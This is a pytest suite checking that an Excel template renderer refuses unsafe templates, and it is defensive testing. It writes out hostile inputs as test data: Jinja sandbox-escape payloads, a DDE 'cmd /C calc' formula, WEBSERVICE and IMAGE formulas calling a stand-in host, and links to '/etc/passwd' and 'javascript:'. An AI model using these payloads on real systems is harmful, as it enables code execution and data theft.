"""What an Excel template must not do, and where its faults are said to be."""

from __future__ import annotations

from typing import Any

import pytest
from openpyxl.workbook.defined_name import DefinedName

from docgen.document import Document
from docgen.errors import TemplateFaulty
from docgen.renderers.ooxml.package import CONTENT_TYPES, Package
from docgen.renderers.ooxml.relationships import OFFICE, rels_name, with_relationship
from docgen.renderers.xlsx import compile, pieces
from docgen.templates.theme import Theme, default_folder, load_theme
from tests.word_templates import document
from tests.workbooks import changed, refusal, template

ESCAPES = [
    "{{ cycler.__init__.__globals__ }}",
    "{{ doc.__class__.__mro__ }}",
    "{{ ''['__class__'] }}",
    "{{ doc_no|attr('__class__') }}",
    "{{ self._TemplateReference__context }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ __w.out }}",
    "{{ lipsum }}",
    "{{ numeral.__globals__ }}",
    "{{ doc_no.format.__self__ }}",
]


@pytest.fixture(scope="module")
def theme() -> Theme:
    return load_theme(default_folder())


@pytest.fixture(scope="module")
def doc() -> Document:
    return document()


@pytest.mark.parametrize("tag", ESCAPES)
def test_escapes_are_refused_in_cells(theme: Theme, doc: Document, tag: str) -> None:
    refused = refusal(template(["x"], [None, tag]), theme, doc)
    assert refused.place == "表!B2"
    assert refused.value == tag


@pytest.mark.parametrize("tag", ESCAPES)
@pytest.mark.parametrize("where", ["header", "footer", "name", "property", "sheet", "control"])
def test_escapes_are_refused_everywhere_else(
    theme: Theme, doc: Document, tag: str, where: str
) -> None:
    def edit(book: Any) -> None:
        sheet = book.active
        if where == "header":
            sheet.oddHeader.left.text = tag
        elif where == "footer":
            sheet.evenFooter.right.text = tag
        elif where == "name":
            book.defined_names["n"] = DefinedName("n", attr_text=tag)
        elif where == "property":
            book.properties.description = tag
        elif where == "control":
            sheet["A3"] = (
                "{%tr if " + tag.strip("{}% ").replace("for x in ", "").split(" %}")[0] + " %}"
            )
            sheet["A4"] = "{%tr endif %}"

    data = template(["x"], edit=edit)
    if where == "sheet":
        escaped = tag.replace("'", "&apos;").encode()
        data = changed(data, "xl/workbook.xml", 'name="表"'.encode(), b'name="' + escaped + b'"')
    assert refusal(data, theme, doc).code


@pytest.mark.parametrize(
    ("rows", "place", "code"),
    [
        ([["{{ nosuch }}"]], "表!A1", "template_error"),
        ([["{{ doc_no }}", "{{ params.nosuch.deeper }}"]], "表!B1", "template_error"),
        ([["a", "{{ doc_no "]], "表!B1", "broken_tag"),
        ([["{{ }}"]], "表!A1", "broken_tag"),
        ([["{% if x %}"]], "表!A1", "broken_tag"),
        ([["{{ doc }}"]], "表!A1", "not_printable"),
        ([["{{ params }}"]], "表!A1", "not_printable"),
        ([["x {% if params %}{{ params }}{% endif %}"]], "表!A1", "not_printable"),
        ([["{{ doc_no|nosuch }}"]], "表!A1", "broken_tag"),
        ([["{{ 1 // 0 }}"]], "表!A1", "template_error"),
        ([["{%tr for p in params %}"], ["x"]], "表!A1", "broken_tag"),
        ([["{%tr endfor %}"]], "表!A1", "broken_tag"),
        ([["{%tr else %}"]], "表!A1", "broken_tag"),
        ([["{%tr if params %}"], ["{%tr endfor %}"]], "表!A2", "broken_tag"),
        ([["{%tr for p in params %}", "more"]], "表!B1", "tag_misplaced"),
        ([["more {%tr for p in params %}"]], "表!A1", "tag_misplaced"),
        ([["x"], ["{%tr for p in no %}"], ["y"], ["{%tr endfor %}"]], "表!A2", "template_error"),
    ],
)  # fmt: skip
def test_faults_name_their_cell(
    theme: Theme, doc: Document, rows: list[list[str]], place: str, code: str
) -> None:
    refused = refusal(template(*rows), theme, doc)
    assert (refused.place, refused.code) == (place, code)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x/"&A1)',
        '=HYPERLINK("http://x/")',
        "=cmd|' /C calc'!A0",
        "='[other.xlsx]Sheet'!A1",
        "=[1]Sheet!A1",
        "=RTD(1,2)",
        '=_xlfn.IMAGE("http://x/")',
        "='{{ doc_no }}'&{{ doc_no }}",
        "='\\\\host\\share\\[b.xlsx]S'!A1",
    ],
)
def test_formulas_that_reach_out_are_refused(theme: Theme, doc: Document, formula: str) -> None:
    refused = refusal(template([None, formula]), theme, doc)
    assert refused.place == "表!B1"


def test_honest_formulas_and_links_are_kept(theme: Theme, doc: Document) -> None:
    def edit(book: Any) -> None:
        book.active["A2"].hyperlink = "https://example.com/a"

    row = ['=HYPERLINK("#A1","x")', '=IF(A1="[x]",1,LOG10(2))', "=SUM(A1:B2)"]
    assert compile(template(row, ["x"], edit=edit), theme).render(doc)


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("xl/externalLinks/externalLink1.xml", "data_connection"),
        ("xl/connections.xml", "data_connection"),
        ("xl/embeddings/Microsoft_Word.docx", "template_unsafe"),
        ("xl/activeX/activeX1.xml", "macros"),
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/pivotTables/pivotTable1.xml", "template_unsafe"),
        ("xl/tables/table1.xml", "template_unsafe"),
        ("xl/queryTables/queryTable1.xml", "data_connection"),
        ("customUI/customUI.xml", "template_unsafe"),
    ],
)
def test_foreign_parts_are_refused(theme: Theme, doc: Document, part: str, code: str) -> None:
    data = Package.read(template(["x"])).with_parts({part: b"<x/>"}).pack()
    assert refusal(data, theme, doc).code == code


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "file:///etc/passwd"),
        ("hyperlink", "\\\\host\\share"),
        ("hyperlink", "javascript:x"),
        ("image", "http://x/y.png"),
        ("attachedTemplate", "http://x/"),
    ],
)
def test_outside_targets_are_refused(theme: Theme, doc: Document, kind: str, target: str) -> None:
    package = Package.read(template(["x"]))
    rels = with_relationship(b"", f"{OFFICE}/{kind}", target).replace(
        b"/>", b' TargetMode="External"/>'
    )
    data = package.with_parts({rels_name("xl/worksheets/sheet1.xml"): rels}).pack()
    assert refusal(data, theme, doc).code == "remote_content"


def test_other_files_are_refused(theme: Theme, doc: Document) -> None:
    assert refusal(b"no zip", theme, doc).code == "zip_broken"
    package = Package.read(template(["x"]))
    types = package.parts[CONTENT_TYPES].replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    assert refusal(package.with_parts({CONTENT_TYPES: types}).pack(), theme, doc).code == "macros"
    word = package.with_parts({"xl/workbook.xml": b"<x/>"}).pack()
    assert refusal(word, theme, doc).code == "not_excel"


def test_a_damaged_workbook_is_refused(theme: Theme, doc: Document) -> None:
    data = changed(template(["x"]), "xl/worksheets/sheet1.xml", b't="inlineStr"', b't="s"')
    data = changed(data, "xl/worksheets/sheet1.xml", b"<is><t>x</t></is>", b"<v>99</v>")
    assert refusal(data, theme, doc).code == "template_unreadable"


def test_pieces_refuse_what_compile_refuses() -> None:
    with pytest.raises(TemplateFaulty):
        pieces(template([None, '=WEBSERVICE("http://x/")']))


def test_comments_are_notes_for_editors_and_not_printed(theme: Theme, doc: Document) -> None:
    from openpyxl.comments import Comment

    def edit(book: Any) -> None:
        book.active["A1"].comment = Comment("how to edit {{ this }}", "author")

    made = Package.read(compile(template(["x"], edit=edit), theme).render(doc))
    assert not [name for name in made.parts if "comment" in name.lower() or "vml" in name.lower()]
